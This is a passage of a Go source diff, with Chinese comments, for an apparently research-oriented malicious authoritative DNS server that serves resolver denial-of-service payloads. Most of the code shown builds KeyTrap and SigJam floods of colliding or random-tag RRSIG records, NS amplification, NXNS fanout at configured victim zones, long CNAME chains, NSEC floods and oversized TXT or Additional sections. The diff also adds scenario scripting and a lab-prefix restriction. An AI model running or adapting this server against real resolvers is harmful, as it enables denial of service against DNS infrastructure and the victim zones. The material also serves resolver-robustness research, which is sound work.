 				wDS := xperi.GenerateRandomRRDS(qName, dMat.KSKTag, m.DNSSECConf.Algo, m.DNSSECConf.Type)
 				rrset = append(rrset, wDS)
 				resp.Answer = append(resp.Answer, wDS)
@@ -663,11 +782,13 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 
 		// 生成正确DS记录
 		kskRData, _ := dMat.KSKRecord.RData.(*dns.DNSRDATADNSKEY)
+		xdns.CountHashes(ctx, 1)
 		ds := xperi.GenerateRRDS(qName, *kskRData, m.DNSSECConf.Type)
 		rrset = append(rrset, ds)
 		resp.Answer = append(resp.Answer, ds)
 
-		upName := dns.GetUpperDomainName(&qName)
+		// DS 由父区域签名
+		upName := m.SignerOf(qName, dns.DNSRRTypeDS)
 		dMat = m.GetDNSSECMaterial(upName)
 
 		// 签名
@@ -676,12 +797,12 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		sigSet := []dns.DNSResourceRecord{}
 		// SigJam攻击向量：CollidedSigNum
 		// 生成 错误RRSIG 记录
-		for i := 0; i < m.AttackVec.CollidedSigNum; i++ {
+		for i := 0; i < vec.CollidedSigNum; i++ {
 			wRRSIG := xperi.GenerateRandomRRRRSIG(
 				rrset,
 				m.DNSSECConf.Algo,
-				uint32(InitTime+86400),
-				uint32(InitTime),
+				m.DNSSECConf.SignatureExpiration(time.Now()),
+				m.DNSSECConf.SignatureInception(time.Now()),
 				uint16(dMat.ZSKTag),
 				upName,
 			)
@@ -690,23 +811,24 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 
 		// TagTrap攻击向量: RandomTagSigNum
 		// 生成 随机Tag的 RRSIG 记录
-		for i := 0; i < m.AttackVec.RandomTagSigNum; i++ {
+		for i := 0; i < vec.RandomTagSigNum; i++ {
 			wRRSIG := xperi.GenerateRandomRRRRSIG(
 				rrset,
 				m.DNSSECConf.Algo,
-				uint32(InitTime+86400),
-				uint32(InitTime),
-				uint16(rand.Intn(65535)),
+				m.DNSSECConf.SignatureExpiration(time.Now()),
+				m.DNSSECConf.SignatureInception(time.Now()),
+				uint16(xperi.RandomIntn(65535)),
 				upName,
 			)
 			sigSet = append(sigSet, wRRSIG)
 		}
 
+		xdns.CountSignatures(ctx, 1)
 		sig := xperi.GenerateRRRRSIG(
 			rrset,
 			dns.DNSSECAlgorithm(dMat.ZSKRecord.RData.(*dns.DNSRDATADNSKEY).Algorithm),
-			uint32(InitTime+86400),
-			uint32(InitTime),
+			m.DNSSECConf.SignatureExpiration(time.Now()),
+			m.DNSSECConf.SignatureInception(time.Now()),
 			uint16(dMat.ZSKTag),
 			upName,
 			dMat.ZSKPriv,
@@ -721,6 +843,14 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 	return nil
 }
 func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error) {
+	return r.ResponseContext(context.Background(), connInfo)
+}
+
+// ResponseContext 与 Response 相同，动态生成的记录受上下文中内存预算的限制。
+func (r *KeyTrapResponser) ResponseContext(ctx context.Context, connInfo xdns.ConnectionInfo) ([]byte, error) {
+	r.vecMu.RLock()
+	defer r.vecMu.RUnlock()
+
 	// 解析查询信息
 	qry, err := xdns.ParseQuery(connInfo)
 	if err != nil {
@@ -732,23 +862,40 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 	qName := strings.ToLower(qry.Question[0].Name.DomainName)
 	qType := qry.Question[0].Type
 	qClass := qry.Question[0].Class
+	vec := r.DNSSECManager.VectorFor(qName)
+	traceVector(ctx, vec)
 
 	r.ResponserLogger.Printf("Recive DNS Query from %s,Protocol: %s,  Name: %s, Type: %s, Class: %s\n",
 		connInfo.Address.String(), connInfo.Protocol, qName, qType, qClass)
 
+	// NXNS攻击向量：NXNSFanout
+	// 区域之下的名称均被委派至受害区域中的随机名称，实验网络之外的解析器得到 REFUSED 回复
+	if vec.NXNSFanout > 0 && r.NXNS != nil && strings.Count(qName, ".") >= 2 {
+		if !r.NXNS.Allowed(connInfo.ClientIP()) {
+			resp := xdns.InitNXDOMAIN(qry)
+			resp.Header.RCode = dns.DNSResponseCodeRefused
+			xdns.FixCount(&resp)
+			return xdns.EncodeResponse(ctx, &resp), nil
+		}
+		resp := r.NXNS.Build(qry, vec.NXNSFanout)
+		return xdns.EncodeResponse(ctx, &resp), nil
+	}
+
 	// 初始化 NXDOMAIN 回复信息
 	resp := xdns.InitNXDOMAIN(qry)
 	qLables := strings.Split(qName, ".")
-	if r.AttackVector.NSRRNum > 0 {
+	if vec.NSRRNum > 0 {
 		if len(qLables) == 1 {
 			resp.Header.RCode = dns.DNSResponseCodeNoErr
-			r.DNSSECManager.EstablishToC(qry, &resp)
+			if err := r.DNSSECManager.EstablishToC(ctx, qry, &resp); err != nil {
+				return []byte{}, err
+			}
 			xdns.FixCount(&resp)
 		} else if len(qLables) == 2 {
 			if qType == dns.DNSRRTypeA || qType == dns.DNSRRTypeNS {
 				// 生成 NS 记录
 				// NS Amplification攻击向量：NSRRNum
-				for i := 1; i <= r.AttackVector.NSRRNum; i++ {
+				for i := 1; i <= vec.NSRRNum; i++ {
 					rr := dns.DNSResourceRecord{
 						Name:  *dns.NewDNSName(qName),
 						Type:  dns.DNSRRTypeNS,
@@ -769,9 +916,12 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 					resp.Additional = append(resp.Additional, rra)
 				}
 				resp.Header.RCode = dns.DNSResponseCodeNoErr
+				_, span := xdns.StartSpan(ctx, "sign", xdns.SpanKindInternal)
+				countSignatures(ctx, resp.Answer, resp.Authority, resp.Additional)
 				resp.Answer = r.DNSSECManager.SignSection(resp.Answer)
 				resp.Authority = r.DNSSECManager.SignSection(resp.Authority)
 				resp.Additional = r.DNSSECManager.SignSection(resp.Additional)
+				span.Finish()
 				SOARDATA.MName = "ns1." + qName
 				soa := dns.DNSResourceRecord{
 					Name:  *dns.NewDNSName(qName),
@@ -783,11 +933,12 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 				}
 				resp.Authority = append(resp.Authority, soa)
 				dMat := r.DNSSECManager.GetDNSSECMaterial(qName)
+				xdns.CountSignatures(ctx, 1)
 				soasig := xperi.GenerateRRRRSIG(
 					[]dns.DNSResourceRecord{soa},
 					dns.DNSSECAlgorithm(r.DNSSECManager.DNSSECConf.Algo),
-					uint32(InitTime+86400),
-					uint32(InitTime),
+					r.DNSSECManager.DNSSECConf.SignatureExpiration(time.Now()),
+					r.DNSSECManager.DNSSECConf.SignatureInception(time.Now()),
 					uint16(dMat.ZSKTag),
 					qName,
 					dMat.ZSKPriv,
@@ -795,7 +946,9 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 				resp.Authority = append(resp.Authority, soasig)
 				xdns.FixCount(&resp)
 			} else {
-				r.DNSSECManager.EstablishToC(qry, &resp)
+				if err := r.DNSSECManager.EstablishToC(ctx, qry, &resp); err != nil {
+					return []byte{}, err
+				}
 				resp.Header.RCode = dns.DNSResponseCodeNoErr
 			}
 		} else if len(qLables) == 3 {
@@ -810,12 +963,12 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 			resp.Answer = append(resp.Answer, rra)
 			upperName := dns.GetUpperDomainName(&qName)
 			dMat := r.DNSSECManager.GetDNSSECMaterial(upperName)
-			for i := 0; i < r.AttackVector.CollidedSigForRR; i++ {
+			for i := 0; i < vec.CollidedSigForRR; i++ {
 				rrsig := xperi.GenerateRandomRRRRSIG(
 					[]dns.DNSResourceRecord{rra},
 					dns.DNSSECAlgorithm(r.DNSSECManager.DNSSECConf.Algo),
-					uint32(InitTime+86400),
-					uint32(InitTime),
+					r.DNSSECManager.DNSSECConf.SignatureExpiration(time.Now()),
+					r.DNSSECManager.DNSSECConf.SignatureInception(time.Now()),
 					uint16(dMat.ZSKTag),
 					upperName,
 				)
@@ -824,7 +977,7 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 			resp.Header.RCode = dns.DNSResponseCodeNoErr
 			xdns.FixCount(&resp)
 		}
-		data := resp.Encode()
+		data := xdns.EncodeResponse(ctx, &resp)
 		return data, nil
 	} else {
 		switch qType {
@@ -839,7 +992,7 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 					return []byte{}, err
 				}
 			}
-			if len(qLables) > 2 && cLength < r.AttackVector.CNAMEChainNum {
+			if len(qLables) > 2 && cLength < vec.CNAMEChainNum {
 				cLength += 1
 
 				nName := fmt.Sprintf("cname%d", cLength)
@@ -859,7 +1012,7 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 
 				resp.Answer = append(resp.Answer, rr)
 			} else {
-				if r.AttackVector.IsNSEC && (qLables[0] == "www" || qLables[0] == "w") {
+				if vec.IsNSEC && (qLables[0] == "www" || qLables[0] == "w") {
 					// NSEC攻击向量
 					upperName := dns.GetUpperDomainName(&qName)
 					// soa := dns.DNSResourceRecord{
@@ -871,8 +1024,8 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 					// 	RData: SOARDATA,
 					// }
 					// resp.Authority = append(resp.Authority, soa)
-					randInt := rand.Int() % 99
-					for i := 1; i < r.AttackVector.NSECRRNum; i++ {
+					randInt := xperi.RandomIntn(99)
+					for i := 1; i < vec.NSECRRNum; i++ {
 						//生成NSEC记录
 						rdata := dns.DNSRDATANSEC{
 							NextDomainName: fmt.Sprintf("0%d.", randInt+i) + upperName,
@@ -893,7 +1046,7 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 						TypeBitMaps:    []dns.DNSType{dns.DNSRRTypeA},
 					}
 					rr := dns.DNSResourceRecord{
-						Name:  *dns.NewDNSName(fmt.Sprintf("0%d.", randInt+r.AttackVector.NSECRRNum) + upperName),
+						Name:  *dns.NewDNSName(fmt.Sprintf("0%d.", randInt+vec.NSECRRNum) + upperName),
 						Type:  dns.DNSRRTypeNSEC,
 						Class: dns.DNSClassIN,
 						TTL:   86400,
@@ -951,15 +1104,15 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 			resp.Additional = append(resp.Additional, rra)
 		case dns.DNSRRTypeTXT:
 			// Tricks攻击向量：TXTRRNum
-			rrset := make([]dns.DNSResourceRecord, r.AttackVector.TXTRRNum)
-			for i := 0; i < r.AttackVector.TXTRRNum; i++ {
+			rrset := make([]dns.DNSResourceRecord, vec.TXTRRNum)
+			for i := 0; i < vec.TXTRRNum; i++ {
 				rRDATA := []byte{}
 				for j := i; j > 0; j /= 256 {
 					rRDATA = append(rRDATA, byte(j%256+1))
 				}
 
 				rdata := dns.DNSRDATATXT{
-					TXT: string(rRDATA),
+					TXT: []string{string(rRDATA)},
 				}
 				rr := dns.DNSResourceRecord{
 					Name:  *dns.NewDNSName(qName),
@@ -969,21 +1122,19 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 					RDLen: 0,
 					RData: &rdata,
 				}
-				rrset[r.AttackVector.TXTRRNum-i-1] = rr
+				rrset[vec.TXTRRNum-i-1] = rr
 			}
 			resp.Answer = append(resp.Answer, rrset...)
 			// Tricks攻击向量：TXTRDataSize
-			if r.AttackVector.TXTRDataSize > 0 {
-				rdata := dns.DNSRDATATXT{
-					TXT: r.AttackVector.RandomString,
-				}
+			if vec.TXTRDataSize > 0 {
+				rdata := dns.NewDNSRDATATXT(vec.RandomString)
 				rr := dns.DNSResourceRecord{
 					Name:  *dns.NewDNSName(qName),
 					Type:  dns.DNSRRTypeTXT,
 					Class: dns.DNSClassIN,
 					TTL:   86400,
 					RDLen: 0,
-					RData: &rdata,
+					RData: rdata,
 				}
 				resp.Answer = append(resp.Answer, rr)
 			}
@@ -1011,13 +1162,13 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 	}
 
 	// AdditionalJam攻击向量：AdditionalRRNum
-	if qType == dns.DNSRRTypeA && (qLables[0] == "w" || qLables[0] == "www") && r.AttackVector.AdditionalRRNum > 0 {
+	if qType == dns.DNSRRTypeA && (qLables[0] == "w" || qLables[0] == "www") && vec.AdditionalRRNum > 0 {
 		// 在Additional部分生成 子域名的TXT 记录
 		txt := "AdditionalJam!"
 		upperName := dns.GetUpperDomainName(&qName)
-		for i := 0; i < r.AttackVector.AdditionalRRNum; i++ {
+		for i := 0; i < vec.AdditionalRRNum; i++ {
 			txtRR := dns.DNSRDATATXT{
-				TXT: txt,
+				TXT: []string{txt},
 			}
 			rr := dns.DNSResourceRecord{
 				Name:  *dns.NewDNSName(fmt.Sprintf("txt%d.", i) + upperName),
@@ -1033,17 +1184,19 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 
 	// 为回复信息添加 DNSSEC 记录
 	if IsDNSSEC {
-		r.DNSSECManager.EnableDNSSEC(qry, &resp)
+		if err := r.DNSSECManager.EnableDNSSEC(ctx, qry, &resp); err != nil {
+			return []byte{}, err
+		}
 	}
 
-	if r.AttackVector.IsNSEC && len(qLables) > 2 && qType == dns.DNSRRTypeA && (qLables[0] == "www" || qLables[0] == "w") {
+	if vec.IsNSEC && len(qLables) > 2 && qType == dns.DNSRRTypeA && (qLables[0] == "www" || qLables[0] == "w") {
 		resp.Header.RCode = dns.DNSResponseCodeNXDomain
 		upperName := dns.GetUpperDomainName(&qName)
 		var rr dns.DNSResourceRecord
 
 		//生成NSEC记录
 		rdata := dns.DNSRDATANSEC{
-			NextDomainName: fmt.Sprintf("00%d.", rand.Int()%99) + upperName,
+			NextDomainName: fmt.Sprintf("00%d.", xperi.RandomIntn(99)) + upperName,
 			TypeBitMaps:    []dns.DNSType{dns.DNSRRTypeA},
 		}
 		rr = dns.DNSResourceRecord{
@@ -1056,22 +1209,23 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 		}
 		resp.Authority = append(resp.Authority, rr)
 		dMat := r.DNSSECManager.GetDNSSECMaterial(upperName)
-		for i := 0; i < ExperiVec.CollidedSigNum-1; i++ {
+		for i := 0; i < vec.CollidedSigNum-1; i++ {
 			wRRSIG := xperi.GenerateRandomRRRRSIG(
 				[]dns.DNSResourceRecord{rr},
 				r.DNSSECManager.DNSSECConf.Algo,
-				uint32(InitTime+86400),
-				uint32(InitTime),
+				r.DNSSECManager.DNSSECConf.SignatureExpiration(time.Now()),
+				r.DNSSECManager.DNSSECConf.SignatureInception(time.Now()),
 				uint16(dMat.ZSKTag),
 				upperName,
 			)
 			resp.Authority = append(resp.Authority, wRRSIG)
 		}
+		xdns.CountSignatures(ctx, 1)
 		sig := xperi.GenerateRRRRSIG(
 			[]dns.DNSResourceRecord{rr},
 			r.DNSSECManager.DNSSECConf.Algo,
-			uint32(InitTime+86400),
-			uint32(InitTime),
+			r.DNSSECManager.DNSSECConf.SignatureExpiration(time.Now()),
+			r.DNSSECManager.DNSSECConf.SignatureInception(time.Now()),
 			uint16(dMat.ZSKTag),
 			upperName,
 			dMat.ZSKPriv,
@@ -1083,7 +1237,7 @@ func (r *KeyTrapResponser) Response(connInfo xdns.ConnectionInfo) ([]byte, error
 	// 修正计数字段，返回回复信息
 	xdns.FixCount(&resp)
 
-	data := resp.Encode()
+	data := xdns.EncodeResponse(ctx, &resp)
 
 	// 是否启用名称压缩
 	if IsNameCompression {
@@ -1104,12 +1258,20 @@ func getRandomString(size int) string {
 	charsetLen := len(charset)
 	result := make([]byte, size)
 	for i := range result {
-		result[i] = charset[rand.Intn(charsetLen)]
+		result[i] = charset[xperi.RandomIntn(charsetLen)]
 	}
 	return string(result)
 }
 
 func main() {
+	scenarioPath := flag.String("scenario", "", "path to a JSON scenario script driving the attack vector")
+	seed := flag.Int64("seed", 0, "seed of the random generation, making the payloads reproducible (0 means unseeded)")
+	flag.Parse()
+
+	if *seed != 0 {
+		xperi.Seed(*seed)
+	}
+
 	// 生成 KSK 和 ZSK
 	// 使用ParseKeyBase64解析预先生成的公钥，
 	// 该公钥应确保能够被解析器通过 信任锚（Trust Anchor）建立的 信任链（Chain of Trust） 所验证。
@@ -1123,20 +1285,70 @@ func main() {
 
 	ExperiVec.RandomString = getRandomString(ExperiVec.TXTRDataSize)
 
-	server := xdns.NewXdnsServer(conf,
-		&KeyTrapResponser{
-			ResponserLogger: log.New(conf.LogWriter, "KeyTrapResponser: ", log.LstdFlags),
-			DNSSECManager: KeyTrapManager{
-				DNSSECConf: xdns.DNSSECConfig{
-					Algo: dns.DNSSECAlgorithmECDSAP384SHA384,
-					Type: dns.DNSSECDigestTypeSHA384,
+	responser := &KeyTrapResponser{
+		ResponserLogger: log.New(conf.LogWriter, "KeyTrapResponser: ", log.LstdFlags),
+		DNSSECManager: KeyTrapManager{
+			DNSSECConf: xdns.DNSSECConfig{
+				Algo: dns.DNSSECAlgorithmECDSAP384SHA384,
+				Type: dns.DNSSECDigestTypeSHA384,
+				Validity: xdns.SignatureValidity{
+					Mode: xdns.ValidityRelative,
+					// 有效期抖动（秒），非 0 时每个回复的 RRSIG 互不相同，验证解析器无法复用验证结果
+					Jitter: 0,
 				},
-				DNSSECMap: dMap,
-				AttackVec: ExperiVec,
 			},
-			AttackVector: ExperiVec,
+			DNSSECMap: dMap,
+			AttackVec: ExperiVec,
+			ZoneCuts:  xdns.NewZoneCuts("test"),
+			// test 的每个子域均被委派为独立的区域，其中任意深度的名称均由该区域签名，而其 DS 由 test 签名
+			DelegatingZones: []string{"test"},
 		},
-	)
+		AttackVector: ExperiVec,
+	}
+	for zone, vec := range ZoneVecs {
+		responser.SetZoneVector(zone, vec)
+	}
+
+	prefixes := []*net.IPNet{}
+	for _, cidr := range LabPrefixes {
+		_, prefix, err := net.ParseCIDR(cidr)
+		if err != nil {
+			log.Fatalf("Error parsing lab prefix: %v", err)
+		}
+		prefixes = append(prefixes, prefix)
+	}
+	nxns, err := xdns.NewNXNSGenerator(xdns.NXNSConfig{
+		Zone:        "test",
+		Victims:     NXNSVictims,
+		Fanout:      1,
+		LabPrefixes: prefixes,
+		TTL:         86400,
+	})
+	if err != nil {
+		log.Fatalf("Error creating NXNS generator: %v", err)
+	}
+	responser.NXNS = nxns
+	server := xdns.NewXdnsServer(conf, responser)
+
+	// 按照场景脚本在实验过程中调整攻击向量
+	if *scenarioPath != "" {
+		scenario, err := xdns.LoadScenario(*scenarioPath)
+		if err != nil {
+			log.Fatalf("Error loading scenario: %v", err)
+		}
+		runner := xdns.NewScenarioRunner(xdns.ScenarioRunnerConfig{
+			Scenario: scenario,
+			Apply: func(phase string, params map[string]interface{}) error {
+				return responser.ApplyScenario(ExperiVec, phase, params)
+			},
+			LogWriter: conf.LogWriter,
+		})
+		go func() {
+			if err := runner.Run(context.Background()); err != nil {
+				log.Printf("Error running scenario: %v", err)
+			}
+		}()
+	}
 
 	server.Start()
 }